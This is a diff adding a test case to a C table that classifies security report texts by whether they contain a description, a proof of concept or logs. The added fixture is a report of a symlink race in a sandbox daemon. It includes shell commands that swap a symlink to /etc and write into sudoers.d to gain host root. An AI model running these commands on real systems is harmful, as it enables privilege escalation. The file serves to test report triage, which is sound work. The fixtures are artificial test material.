@@ -8,6 +8,18 @@ static const struct {
 	const char *body;
 	int description, poc, logs;   /* -1: do not care */
 } checks[] = {
+	/* (3549) a loop in a background subshell is a step, and a ticket's
+	 * work-note headers (the time and who wrote the note) are no log */
+	{ "msbd checks the volume path and then opens it again as root, so a symlink swapped in between "
+	  "exports /etc read-write to the sandbox and any msb group member gets root on the host.\n\n"
+	  "Reproduction:\n\n"
+	  "  mkdir -p ~/race/real && cd ~/race\n"
+	  "  ( while :; do ln -sfn real p; ln -sfn /etc p; done ) &\n"
+	  "  msb run --rm -v \"$HOME/race/p:/mnt:rw\" alpine -- sh -c 'echo x > /mnt/sudoers.d/zz'\n\n"
+	  "I did not keep the terminal output.\n\nWork notes (newest first):\n\n"
+	  "2026-12-29 10:52:18 GMT - Callum Reid\nCould not reproduce on our lab box.\n\n"
+	  "2026-12-29 09:31:40 GMT - Callum Reid\nCustomer confirmed the runners are restricted.\n",
+	  TRUE, TRUE, FALSE },
 	/* (3475) a relayer who says they do not know what the pasted
 	 * transcript shows: their sentences pass it on, no description */
 	{ "I run a small Mastodon instance. Late last night one of our users sent me the message below and asked me "
